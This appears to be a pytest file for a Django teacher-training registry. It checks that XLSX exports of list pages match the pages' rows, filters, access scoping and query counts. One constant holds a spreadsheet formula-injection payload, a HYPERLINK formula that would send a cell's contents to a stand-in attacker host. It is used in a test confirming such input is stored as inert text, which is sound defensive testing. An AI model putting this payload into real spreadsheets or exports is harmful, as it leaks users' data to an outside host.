"""XLSX exports of the registry lists (clusters/views/exports.py): the file holds the page's rows.

One registry of district A (schools A and B) and district B is built by hand below; each export
is read back with openpyxl and compared with values worked out from it, and with the list page's
own object_list for the same query string.
"""
import datetime
import io
from types import SimpleNamespace

import pytest
from django.urls import resolve, reverse
from django.utils import timezone
from openpyxl import load_workbook

from core import xlsx
from tests.factories import (
    ClusterFactory,
    ClusterMembershipFactory,
    CommunityFactory,
    CommunityMembershipFactory,
    EventFactory,
    IndividualRouteFactory,
    InnovationProjectFactory,
    MentorshipFactory,
    OrganisationFactory,
    TeacherFactory,
    TrainingCompletionFactory,
    TrainingProgramFactory,
)

pytestmark = pytest.mark.django_db

INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")'
THIS_YEAR = timezone.localdate().year

# export URL name → its list page; the export asks the page's capability (who gets what: tests/test_access_matrix.py).
EXPORTS = {
    "cluster_export": "cluster_list",
    "community_export": "community_list",
    "training_export": "training_list",
    "training_program_export": "training_program_list",
    "route_export": "route_list",
    "mentorship_export": "mentorship_list",
    "innovation_export": "innovation_list",
    "event_export": "event_list",
}
HEADERS = {
    "cluster_export": ["Год", "Кластер", "Направление работы", "Куратор", "Организаций"],
    "community_export": ["Вид", "Название", "Тема / проблема", "Руководитель", "Организация руководителя",
                         "Куратор", "Начало работы", "Окончание работы", "Участников"],
    "training_export": ["Педагог", "Организация", "Программа", "Объём, ч", "Организация, проводившая обучение",
                        "Дата окончания", "По результатам диагностики дефицитов", "Номер удостоверения"],
    "training_program_export": ["Программа", "Объём, ч", "Организация, проводившая обучение", "Прошли обучение"],
    "route_export": ["Педагог", "Организация", "Начало", "Окончание", "Устраняемые дефициты", "Статус"],
    "mentorship_export": ["Наставник", "Организация наставника", "Наставляемый", "Организация наставляемого",
                          "Молодой педагог", "Начало", "Окончание"],
    "innovation_export": ["Проект", "Ведущая организация", "Уровень площадки", "Начало", "Окончание", "Участников"],
    "event_export": ["Дата проведения", "Мероприятие", "Форма", "Уровень", "Организаторы", "Кластер",
                     "Сообщество", "Участников"],
}

def d(text: str) -> datetime.datetime:
    """A date as openpyxl reads it back: a datetime at midnight."""
    return datetime.datetime.strptime(text, "%d.%m.%Y")


def export(client, name: str, query: str = ""):
    return client.get(reverse(f"clusters:{name}") + (f"?{query}" if query else ""))


def rows_of(response) -> list[list]:
    assert response.status_code == 200
    assert response["Content-Type"] == xlsx.XLSX_CONTENT_TYPE
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def page_objects(client, name: str, query: str = "") -> list:
    response = client.get(reverse(f"clusters:{EXPORTS[name]}") + (f"?{query}" if query else ""))
    assert response.status_code == 200
    return list(response.context["object_list"])


@pytest.fixture
def registry(district_a, district_b, school_a, school_b, school_other_district, methodist):
    """District A (schools A and B) and a little of district B, in every registry."""
    r = SimpleNamespace(school_a=school_a, school_b=school_b)
    # teachers
    r.agapova = TeacherFactory(organisation=school_a, full_name="Агапова Анна", birth_year=1970)
    r.borisov = TeacherFactory(organisation=school_b, full_name="Борисов Борис", birth_year=1985)
    r.young = TeacherFactory(organisation=school_a, full_name="Юнина Яна", birth_year=THIS_YEAR - 25)
    r.stranger = TeacherFactory(organisation=school_other_district, full_name="Чужова Ольга", birth_year=1990)
    # clusters: 2021 with both schools, 2022 with school B, 2022 empty; one of district B
    r.literacy = ClusterFactory(district=district_a, year=2021, name="Функциональная грамотность",
                                description="Читательская грамотность", curator=methodist)
    ClusterMembershipFactory(cluster=r.literacy, organisation=school_a)
    ClusterMembershipFactory(cluster=r.literacy, organisation=school_b)
    r.digital = ClusterFactory(district=district_a, year=2022, name="Цифровая школа")
    ClusterMembershipFactory(cluster=r.digital, organisation=school_b)
    ClusterFactory(district=district_a, year=2022, name="Без участников")
    foreign_cluster = ClusterFactory(district=district_b, year=2021, name="Чужой кластер")
    ClusterMembershipFactory(cluster=foreign_cluster, organisation=school_other_district)
    # communities: members who have not left are counted (3 of 4 here)
    r.gppo = CommunityFactory(district=district_a, kind="gppo", name="ГППО учителей математики",
                              topic="Функциональная грамотность на уроках", leader=r.agapova, curator=methodist,
                              started_on=datetime.date(2020, 9, 1))
    today = timezone.localdate()
    CommunityMembershipFactory(community=r.gppo, teacher=r.agapova)
    CommunityMembershipFactory(community=r.gppo, teacher=r.borisov)
    CommunityMembershipFactory(community=r.gppo, teacher=r.young, left_on=today + datetime.timedelta(days=30))
    CommunityMembershipFactory(community=r.gppo, teacher=r.stranger, joined_on=datetime.date(2020, 1, 1),
                               left_on=datetime.date(2020, 6, 1))
    r.rmo = CommunityFactory(district=district_a, kind="rmo", name="РМО учителей истории", topic="",
                             started_on=datetime.date(2019, 9, 1), ended_on=datetime.date(2021, 6, 30))
    CommunityFactory(district=district_b, kind="rmo", name="Чужое РМО")
    # the course catalogue (shared) and completions
    r.p72 = TrainingProgramFactory(title="Функциональная грамотность", hours=72, provider="ГБУ «ИМЦ»")
    r.p36 = TrainingProgramFactory(title="Цифровая школа", hours=36, provider="Академия Минпросвещения")
    r.unused = TrainingProgramFactory(title="Экология", hours=16, provider="ЛОИРО")
    TrainingCompletionFactory(teacher=r.agapova, program=r.p72, completed_on=datetime.date(2022, 5, 20),
                              based_on_diagnostics=True, certificate_number="0012345")
    TrainingCompletionFactory(teacher=r.borisov, program=r.p36, completed_on=datetime.date(2021, 3, 1))
    TrainingCompletionFactory(teacher=r.stranger, program=r.p72, completed_on=datetime.date(2022, 1, 10))
    # ИОМ
    IndividualRouteFactory(teacher=r.agapova, starts_on=datetime.date(2022, 1, 10), ends_on=datetime.date(2022, 12, 20),
                           deficits=["subject", "communicative"], status="active")
    IndividualRouteFactory(teacher=r.borisov, starts_on=datetime.date(2021, 1, 11), ends_on=datetime.date(2021, 6, 30),
                           deficits=[], status="completed")
    IndividualRouteFactory(teacher=r.stranger, deficits=["subject"])
    # mentorships: a current pair in school A with a young mentee; a finished one across schools
    MentorshipFactory(mentor=r.agapova, mentee=r.young, starts_on=datetime.date(2022, 9, 1))
    MentorshipFactory(mentor=r.borisov, mentee=r.agapova, starts_on=datetime.date(2021, 9, 1),
                      ends_on=datetime.date(2022, 6, 30))
    stranger_mentee = TeacherFactory(organisation=school_other_district, full_name="Чужой Наставляемый")
    MentorshipFactory(mentor=r.stranger, mentee=stranger_mentee, starts_on=datetime.date(2022, 9, 1))
    # innovation projects
    full_day = InnovationProjectFactory(district=district_a, title="Школа полного дня", lead_organisation=school_a,
                                        level="region", starts_on=datetime.date(2021, 9, 1),
                                        ends_on=datetime.date(2024, 6, 30))
    full_day.participations.create(teacher=r.agapova)
    full_day.participations.create(teacher=r.borisov)
    InnovationProjectFactory(district=district_a, title="Медиацентр", lead_organisation=None, level="district",
                             starts_on=datetime.date(2019, 9, 1), ends_on=datetime.date(2020, 6, 30))
    InnovationProjectFactory(district=district_b, title="Чужой проект", lead_organisation=school_other_district)
    # events
    seminar = EventFactory(district=district_a, title="Семинар по функциональной грамотности", form="seminar",
                           level="district", held_on=datetime.date(2022, 3, 18), cluster=r.literacy,
                           community=r.gppo, participants_count=40)
    seminar.organisers.set([school_b, school_a])
    EventFactory(district=district_a, title="Вебинар для молодых педагогов", form="webinar", level="city",
                 held_on=datetime.date(2021, 11, 1), participants_count=0)
    EventFactory(district=district_b, title="Чужой семинар", held_on=datetime.date(2022, 1, 1)).organisers.set(
        [school_other_district])
    return r


# --- what each file holds ----------------------------------------------------------------------


def test_cluster_export_rows_in_page_order_with_organisation_counts(methodist_client, registry):
    rows = rows_of(export(methodist_client, "cluster_export"))

    assert rows == [
        HEADERS["cluster_export"],
        [2022, "Без участников", None, None, 0],
        [2022, "Цифровая школа", None, None, 1],
        [2021, "Функциональная грамотность", "Читательская грамотность", "Смирнова М.", 2],
    ]


def test_cluster_export_of_a_school_admin_counts_every_organisation_of_the_cluster(
    school_admin_client, other_school_admin_client, registry
):
    own = rows_of(export(school_admin_client, "cluster_export"))
    other = rows_of(export(other_school_admin_client, "cluster_export"))

    # School A is only in the 2021 cluster, which has two organisations (not just the one joined).
    assert own[1:] == [[2021, "Функциональная грамотность", "Читательская грамотность", "Смирнова М.", 2]]
    assert [(row[1], row[4]) for row in other[1:]] == [("Цифровая школа", 1), ("Функциональная грамотность", 2)]


def test_community_export_rows_count_members_who_have_not_left(director_client, registry):
    rows = rows_of(export(director_client, "community_export"))

    assert rows == [
        HEADERS["community_export"],
        ["ГППО", "ГППО учителей математики", "Функциональная грамотность на уроках", "Агапова Анна",
         "ГБОУ СОШ № 1", "Смирнова М.", d("01.09.2020"), None, 3],
        ["РМО", "РМО учителей истории", None, None, None, None, d("01.09.2019"), d("30.06.2021"), 0],
    ]


def test_training_export_rows(methodist_client, registry):
    rows = rows_of(export(methodist_client, "training_export"))

    assert rows == [
        HEADERS["training_export"],
        ["Агапова Анна", "ГБОУ СОШ № 1", "Функциональная грамотность", 72, "ГБУ «ИМЦ»", d("20.05.2022"), "да",
         "0012345"],
        ["Борисов Борис", "ГБОУ СОШ № 2", "Цифровая школа", 36, "Академия Минпросвещения", d("01.03.2021"), "нет",
         None],
    ]


def test_training_program_export_counts_only_completions_the_user_may_see(
    methodist_client, school_admin_client, other_methodist_client, registry
):
    district = rows_of(export(methodist_client, "training_program_export"))
    school = rows_of(export(school_admin_client, "training_program_export"))
    other = rows_of(export(other_methodist_client, "training_program_export"))

    assert district == [
        HEADERS["training_program_export"],
        ["Функциональная грамотность", 72, "ГБУ «ИМЦ»", 1],  # Agapova's; district B's one is not counted
        ["Цифровая школа", 36, "Академия Минпросвещения", 1],
        ["Экология", 16, "ЛОИРО", 0],
    ]
    # The catalogue is shared; the counts are of the reader's school / district.
    assert [(row[0], row[3]) for row in school[1:]] == [
        ("Функциональная грамотность", 1), ("Цифровая школа", 0), ("Экология", 0)]
    assert [(row[0], row[3]) for row in other[1:]] == [
        ("Функциональная грамотность", 1), ("Цифровая школа", 0), ("Экология", 0)]


def test_route_export_rows_with_deficits_in_russian(methodist_client, registry):
    rows = rows_of(export(methodist_client, "route_export"))

    assert rows == [
        HEADERS["route_export"],
        ["Агапова Анна", "ГБОУ СОШ № 1", d("10.01.2022"), d("20.12.2022"), "предметные, коммуникативные",
         "реализуется"],
        ["Борисов Борис", "ГБОУ СОШ № 2", d("11.01.2021"), d("30.06.2021"), None, "завершён"],
    ]


def test_mentorship_export_rows(director_client, registry):
    rows = rows_of(export(director_client, "mentorship_export"))

    assert rows == [
        HEADERS["mentorship_export"],
        ["Агапова Анна", "ГБОУ СОШ № 1", "Юнина Яна", "ГБОУ СОШ № 1", "да", d("01.09.2022"), None],
        ["Борисов Борис", "ГБОУ СОШ № 2", "Агапова Анна", "ГБОУ СОШ № 1", "нет", d("01.09.2021"), d("30.06.2022")],
    ]


def test_innovation_export_rows(observer_client, registry):
    rows = rows_of(export(observer_client, "innovation_export"))

    assert rows == [
        HEADERS["innovation_export"],
        ["Школа полного дня", "ГБОУ СОШ № 1", "регион", d("01.09.2021"), d("30.06.2024"), 2],
        ["Медиацентр", None, "район", d("01.09.2019"), d("30.06.2020"), 0],
    ]


def test_event_export_rows(methodist_client, registry):
    rows = rows_of(export(methodist_client, "event_export"))

    assert rows == [
        HEADERS["event_export"],
        [d("18.03.2022"), "Семинар по функциональной грамотности", "семинар", "район", "ГБОУ СОШ № 1, ГБОУ СОШ № 2",
         "Функциональная грамотность (2021)", "ГППО учителей математики", 40],
        [d("01.11.2021"), "Вебинар для молодых педагогов", "вебинар", "город", None, None, None, 0],
    ]


def test_dates_are_date_cells_and_codes_stay_text(methodist_client, registry):
    response = export(methodist_client, "training_export")
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]

    assert sheet["F2"].is_date and sheet["F2"].number_format == "DD.MM.YYYY"
    assert (sheet["D2"].value, sheet["D2"].data_type) == (72, "n")
    assert (sheet["H2"].value, sheet["H2"].data_type) == ("0012345", "s")


@pytest.mark.parametrize("name", EXPORTS)
def test_file_is_named_after_the_list_and_today(methodist_client, registry, name):
    response = export(methodist_client, name)

    prefix = {"cluster_export": "clusters", "community_export": "communities", "training_export": "trainings",
              "training_program_export": "training_programs", "route_export": "routes",
              "mentorship_export": "mentorships", "innovation_export": "innovation_projects",
              "event_export": "events"}[name]
    assert response["Content-Disposition"] == (
        f'attachment; filename="{prefix}_{timezone.localdate():%Y-%m-%d}.xlsx"')
    assert rows_of(response)[0] == HEADERS[name]


# --- the file = the page: same filters, same order ---------------------------------------------


def _key(obj) -> str:
    """The first column of a row of each export, taken from a list page's object."""
    for attr in ("teacher", "mentor"):
        if hasattr(obj, attr):
            return getattr(obj, attr).full_name
    return getattr(obj, "title", None) or obj.name


def _keys(rows: list[list], name: str) -> list:
    column = {"cluster_export": 1, "community_export": 1, "event_export": 1}.get(name, 0)
    return [row[column] for row in rows[1:]]


FILTERS = [
    ("cluster_export", "year=2022", ["Без участников", "Цифровая школа"]),
    ("cluster_export", "q=Читательская", ["Функциональная грамотность"]),
    ("community_export", "kind=rmo", ["РМО учителей истории"]),
    ("community_export", "has_leader=true", ["ГППО учителей математики"]),
    ("training_export", "organisation={school_b}", ["Борисов Борис"]),
    ("training_export", "based_on_diagnostics=true", ["Агапова Анна"]),
    ("training_export", "year=2021", ["Борисов Борис"]),
    ("training_program_export", "hours=36", ["Цифровая школа"]),
    ("training_program_export", "q=ЛОИРО", ["Экология"]),
    ("route_export", "deficit=communicative", ["Агапова Анна"]),
    ("route_export", "status=completed", ["Борисов Борис"]),
    ("mentorship_export", "young_mentee=true", ["Агапова Анна"]),
    ("mentorship_export", "current=false", ["Борисов Борис"]),
    ("mentorship_export", "organisation={school_b}", ["Борисов Борис"]),
    ("innovation_export", "year=2020", ["Медиацентр"]),
    ("innovation_export", "lead_organisation={school_a}", ["Школа полного дня"]),
    ("event_export", "organiser={school_b}", ["Семинар по функциональной грамотности"]),
    ("event_export", "event_form=webinar", ["Вебинар для молодых педагогов"]),
    ("event_export", "cluster={literacy}", ["Семинар по функциональной грамотности"]),
]


@pytest.mark.parametrize(("name", "query", "expected"), FILTERS, ids=[f"{n}?{q}" for n, q, _ in FILTERS])
def test_filter_narrows_the_file_exactly_like_the_page(methodist_client, registry, name, query, expected):
    query = query.format(school_a=registry.school_a.pk, school_b=registry.school_b.pk, literacy=registry.literacy.pk)

    rows = rows_of(export(methodist_client, name, query))

    assert _keys(rows, name) == [_key(obj) for obj in page_objects(methodist_client, name, query)]
    assert _keys(rows, name) == expected
    assert len(rows) - 1 < len(rows_of(export(methodist_client, name))) - 1  # it did narrow


@pytest.mark.parametrize("name", EXPORTS)
def test_unfiltered_file_lists_the_page_in_its_order(methodist_client, registry, name):
    rows = rows_of(export(methodist_client, name))

    assert _keys(rows, name) == [_key(obj) for obj in page_objects(methodist_client, name)]


@pytest.mark.parametrize("name", ["cluster_export", "training_export", "innovation_export", "event_export"])
def test_an_invalid_filter_exports_nothing_like_the_page_shows_nothing(methodist_client, registry, name):
    assert page_objects(methodist_client, name, "year=abc") == []
    assert rows_of(export(methodist_client, name, "year=abc")) == [HEADERS[name]]


def test_a_foreign_organisation_in_the_filter_exports_nothing(school_admin_client, registry):
    query = f"organisation={registry.school_b.pk}"  # not in a school administrator's choices

    assert page_objects(school_admin_client, "training_export", query) == []
    assert rows_of(export(school_admin_client, "training_export", query)) == [HEADERS["training_export"]]


@pytest.mark.parametrize("name", EXPORTS)
def test_export_takes_capability_and_filter_from_its_list_page(name):
    export_view = resolve(reverse(f"clusters:{name}")).func.view_class
    list_view = resolve(reverse(f"clusters:{EXPORTS[name]}")).func.view_class

    assert export_view.capability == list_view.capability
    assert export_view.filterset_class is list_view.filterset_class


@pytest.mark.parametrize("name", EXPORTS)
def test_list_page_links_to_its_export_with_the_current_filters(methodist_client, registry, name):
    response = methodist_client.get(reverse(f"clusters:{EXPORTS[name]}") + "?q=%D0%B0")

    assert f'href="{reverse(f"clusters:{name}")}?q=%D0%B0"' in response.content.decode()


def test_school_admin_gets_the_cluster_export_button_but_not_the_district_memberships(school_admin_client, registry):
    page = school_admin_client.get(reverse("clusters:cluster_list")).content.decode()

    assert reverse("clusters:cluster_export") in page
    assert reverse("clusters:membership_export") not in page


# District B's methodist sees only district B's rows (the catalogue of programmes is shared).
FOREIGN_ROWS = {
    "cluster_export": ["Чужой кластер"],
    "community_export": ["Чужое РМО"],
    "training_export": ["Чужова Ольга"],
    "route_export": ["Чужова Ольга"],
    "mentorship_export": ["Чужова Ольга"],
    "innovation_export": ["Чужой проект"],
    "event_export": ["Чужой семинар"],
}


@pytest.mark.parametrize("name", FOREIGN_ROWS)
def test_another_district_sees_none_of_district_a(other_methodist_client, registry, name):
    assert _keys(rows_of(export(other_methodist_client, name)), name) == FOREIGN_ROWS[name]


@pytest.mark.parametrize(("name", "expected"), [
    ("training_export", ["Агапова Анна"]),
    ("route_export", ["Агапова Анна"]),
    ("mentorship_export", ["Агапова Анна", "Борисов Борис"]),  # the second pair's mentee is of school A
])
def test_school_admin_exports_only_their_school(school_admin_client, registry, name, expected):
    assert _keys(rows_of(export(school_admin_client, name)), name) == expected


# --- safe cells --------------------------------------------------------------------------------


def test_formula_in_a_community_name_comes_back_as_text(methodist_client, district_a):
    CommunityFactory(district=district_a, name=INJECTION, topic="+7 (812) 000-00-00")

    response = export(methodist_client, "community_export")

    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    name, topic = sheet["B2"], sheet["C2"]
    for cell, text in ((name, INJECTION), (topic, "+7 (812) 000-00-00")):
        assert cell.value == text
        assert cell.data_type == "s"  # a formula would read back as "f"
        assert cell.quotePrefix is True


# --- a fixed number of queries -----------------------------------------------------------------


def _fifty_clusters(district, schools, methodist):
    for n in range(50):
        cluster = ClusterFactory(district=district, year=2021, curator=methodist)
        ClusterMembershipFactory(cluster=cluster, organisation=schools[n % 2])


def _fifty_communities(district, schools, methodist):
    for n in range(50):
        leader = TeacherFactory(organisation=schools[n % 2])
        community = CommunityFactory(district=district, leader=leader, curator=methodist)
        CommunityMembershipFactory(community=community, teacher=leader)


def _fifty_completions(district, schools, methodist):
    for n in range(50):
        TrainingCompletionFactory(teacher=TeacherFactory(organisation=schools[n % 2]))


def _fifty_programs(district, schools, methodist):
    teacher = TeacherFactory(organisation=schools[0])
    for _ in range(50):
        TrainingCompletionFactory(teacher=teacher)


def _fifty_routes(district, schools, methodist):
    for n in range(50):
        IndividualRouteFactory(teacher=TeacherFactory(organisation=schools[n % 2]), deficits=["subject", "managerial"])


def _fifty_mentorships(district, schools, methodist):
    for n in range(50):
        MentorshipFactory(mentor=TeacherFactory(organisation=schools[n % 2]),
                          mentee=TeacherFactory(organisation=schools[(n + 1) % 2]))


def _fifty_projects(district, schools, methodist):
    teacher = TeacherFactory(organisation=schools[0])
    for n in range(50):
        InnovationProjectFactory(district=district, lead_organisation=schools[n % 2]).participations.create(
            teacher=teacher)


def _fifty_events(district, schools, methodist):
    cluster = ClusterFactory(district=district)
    community = CommunityFactory(district=district)
    extra = [OrganisationFactory(district=district) for _ in range(3)]
    for n in range(50):
        EventFactory(district=district, cluster=cluster, community=community).organisers.set(
            [schools[n % 2], extra[n % 3]])


FIFTY = {
    "cluster_export": _fifty_clusters,
    "community_export": _fifty_communities,
    "training_export": _fifty_completions,
    "training_program_export": _fifty_programs,
    "route_export": _fifty_routes,
    "mentorship_export": _fifty_mentorships,
    "innovation_export": _fifty_projects,
    "event_export": _fifty_events,
}


@pytest.mark.parametrize("name", FIFTY)
def test_export_of_fifty_rows_runs_a_fixed_number_of_queries(
    methodist_client, methodist, district_a, school_a, school_b, django_assert_max_num_queries, name
):
    FIFTY[name](district_a, [school_a, school_b], methodist)

    # session, user, the count that decides between the file and an export job (core/exports.py), the rows
    # (+ one prefetch of the organisers of events, + the ExportLog row of a list with personal data) — whatever
    # the number of rows.
    logged = name in {"cluster_export", "community_export", "training_export", "route_export", "mentorship_export"}
    with django_assert_max_num_queries((5 if name == "event_export" else 4) + logged):
        response = export(methodist_client, name)

    rows = rows_of(response)
    assert len(rows) == 51
    assert all(value is not None for row in rows[1:] for value in row[:2])
